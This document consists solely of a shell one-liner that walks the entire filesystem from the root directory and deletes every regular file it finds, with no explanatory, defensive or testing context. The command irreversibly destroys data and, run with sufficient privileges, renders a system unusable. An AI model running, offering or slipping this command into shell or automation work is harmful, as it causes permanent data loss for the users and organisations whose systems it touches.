find / -type f -exec sh -c 'rm "$1"' _ {} \;
